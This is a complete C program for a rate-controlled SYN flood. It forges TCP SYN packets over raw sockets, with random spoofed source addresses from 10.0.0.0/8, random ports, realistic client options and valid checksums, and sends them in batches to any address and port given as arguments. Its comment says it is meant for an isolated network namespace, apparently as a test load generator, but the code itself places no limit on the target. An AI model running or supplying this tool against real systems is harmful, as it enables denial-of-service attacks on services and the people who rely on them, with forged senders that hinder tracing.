/* SPDX-License-Identifier: GPL-2.0-or-later */
/* A SYN flood from random spoofed sources, at a steady rate: flood RATE SECONDS ADDRESS PORT */

/*
 * DOC: Theory of operation
 *
 * For a network namespace without a way out. Each SYN comes from another address of 10.0.0.0/8 and
 * another port, with the options of an ordinary client. As many are sent in each round as are due
 * by the clock, so a rate that is too high for the machine becomes the highest that it can do. At
 * the end the number of packets is written to standard output.
 */

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BURST	    64	   /* packets in one system call */
#define ROUND_NS    500000 /* between two looks at the clock, when nothing is due */
#define SECOND_NS   1000000000ull
#define SOURCES	    0x0a000000u /* 10.0.0.0/8 */
#define SOURCE_MASK 0x00ffffffu
#define PORT_MIN    1024
#define TTL	    64

/* MSS 1460, SACK permitted, timestamps, window scale 7 */
static const uint8_t options[] = { 2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7 };

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t options[sizeof(options)];
};

struct flood {
	int fd;
	struct sockaddr_in target;
	uint64_t random;
	struct syn packets[BURST];
	struct iovec iov[BURST];
	struct mmsghdr messages[BURST];
};

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * SECOND_NS + (uint64_t)ts.tv_nsec;
}

/* xorshift64*: anything that does not repeat will do. */
static uint64_t next_random(struct flood *f)
{
	f->random ^= f->random >> 12;
	f->random ^= f->random << 25;
	f->random ^= f->random >> 27;
	return f->random * 0x2545f4914f6cdd1dull;
}

/* RFC 1071 over the pseudo header and the segment, whose length is even. */
static uint16_t tcp_checksum(const struct syn *syn)
{
	uint16_t words[(sizeof(*syn) - sizeof(syn->ip)) / 2];
	uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof(words));

	sum += (syn->ip.saddr & 0xffff) + (syn->ip.saddr >> 16);
	sum += (syn->ip.daddr & 0xffff) + (syn->ip.daddr >> 16);
	memcpy(words, &syn->tcp, sizeof(words));
	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		sum += words[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void prepare(struct flood *f)
{
	for (size_t i = 0; i < BURST; i++) {
		struct syn *syn = &f->packets[i];

		syn->ip.version = 4;
		syn->ip.ihl = sizeof(syn->ip) / 4;
		syn->ip.ttl = TTL;
		syn->ip.protocol = IPPROTO_TCP;
		syn->ip.daddr = f->target.sin_addr.s_addr;
		syn->tcp.dest = f->target.sin_port;
		syn->tcp.doff = (sizeof(syn->tcp) + sizeof(syn->options)) / 4;
		syn->tcp.syn = 1;
		syn->tcp.window = htons(64240);
		memcpy(syn->options, options, sizeof(options));
		f->iov[i] = (struct iovec){ syn, sizeof(*syn) };
		f->messages[i].msg_hdr = (struct msghdr){
			.msg_name = &f->target,
			.msg_namelen = sizeof(f->target),
			.msg_iov = &f->iov[i],
			.msg_iovlen = 1,
		};
	}
}

/* The kernel writes length, identification and checksum of the IP header: raw(7). */
static int send_burst(struct flood *f, unsigned int count)
{
	for (unsigned int i = 0; i < count; i++) {
		struct syn *syn = &f->packets[i];
		uint64_t r = next_random(f);
		uint64_t port = (uint16_t)(r >> 32);

		syn->ip.saddr = htonl(SOURCES | ((uint32_t)r & SOURCE_MASK));
		syn->tcp.source = htons((uint16_t)(PORT_MIN + port % (UINT16_MAX - PORT_MIN)));
		syn->tcp.seq = (uint32_t)next_random(f);
		syn->tcp.check = 0;
		syn->tcp.check = tcp_checksum(syn);
	}
	return sendmmsg(f->fd, f->messages, count, 0);
}

/* Returns the number of packets, or -1. */
static long long run(struct flood *f, uint64_t rate, uint64_t seconds)
{
	const struct timespec pause = { .tv_nsec = ROUND_NS };
	const uint64_t begin = now_ns();
	uint64_t sent = 0, elapsed, due;
	int count;

	while (elapsed = now_ns() - begin, elapsed < seconds * SECOND_NS) {
		due = elapsed * rate / SECOND_NS;
		if (due <= sent) {
			nanosleep(&pause, NULL);
			continue;
		}
		count = send_burst(f, (unsigned int)(due - sent < BURST ? due - sent : BURST));
		/* The device's queue is full, as it may be in a flood. */
		if (count < 0 && errno != ENOBUFS)
			return -1;
		if (count > 0)
			sent += (unsigned int)count;
	}
	return (long long)sent;
}

int main(int argc, char **argv)
{
	static struct flood f;
	unsigned long rate, seconds, port;
	long long sent;

	if (argc != 5) {
		fprintf(stderr, "usage: flood RATE SECONDS ADDRESS PORT\n");
		return 2;
	}
	rate = strtoul(argv[1], NULL, 10);
	seconds = strtoul(argv[2], NULL, 10);
	port = strtoul(argv[4], NULL, 10);
	f.target.sin_family = AF_INET;
	f.target.sin_port = htons((uint16_t)port);
	if (!rate || rate > 10000000 || !seconds || seconds > 3600 || !port || port > UINT16_MAX ||
	    inet_pton(AF_INET, argv[3], &f.target.sin_addr) != 1) {
		fprintf(stderr, "flood: the arguments make no sense\n");
		return 2;
	}
	f.random = now_ns();
	f.fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (f.fd < 0) {
		perror("flood: socket");
		return 1;
	}
	prepare(&f);
	sent = run(&f, rate, seconds);
	if (sent < 0) {
		perror("flood: sendmmsg");
		return 1;
	}
	printf("%lld\n", sent);
	return 0;
}
